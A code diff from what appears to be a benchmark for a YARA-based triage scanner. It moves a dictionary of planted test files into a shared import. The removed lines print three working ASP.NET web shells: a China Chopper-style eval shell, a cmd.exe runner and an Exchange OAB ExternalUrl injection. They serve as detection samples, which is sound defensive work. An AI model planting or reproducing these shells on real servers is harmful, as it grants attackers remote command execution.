@@ -37,15 +37,9 @@ REPO = Path(__file__).resolve().parents[1]
 sys.path.insert(0, str(REPO))
 sys.path.insert(0, str(REPO / "benchmarks"))
 
+from yara_scan import PLANTED  # noqa: E402  (the same three shells as the YARA benchmark)
+
 WORDS = ("the", "page", "load", "request", "server", "script", "div", "span", "table", "form", "owa", "ecp", "mail")
-PLANTED = {
-    "chopper.aspx": b'<%@ Page Language="Jscript"%><%eval(Request.Item["b"],"unsafe");%>',
-    "cmd.aspx": b'<%@ Page Language="C#"%><script runat="server">void R(string a){var p=new System.Diagnostics.'
-    b'ProcessStartInfo("cmd.exe","/c "+a);p.RedirectStandardOutput=true;System.Diagnostics.Process.Start(p);}'
-    b"</script>",
-    "oab.aspx": b'OfflineAddressBook\r\nExternalUrl : http://f/<script language="JScript" runat="server">'
-    b'function Page_Load(){eval(Request["b"],"unsafe");}</script>\r\n',
-}
 # a child that runs the CLI with batching off: the layout and bookkeeping of one unit per artifact
 UNBATCHED = (
     "import sys, triage.runner as r; r.DEFAULT_BATCHING = r.BatchLimits(count=1); "
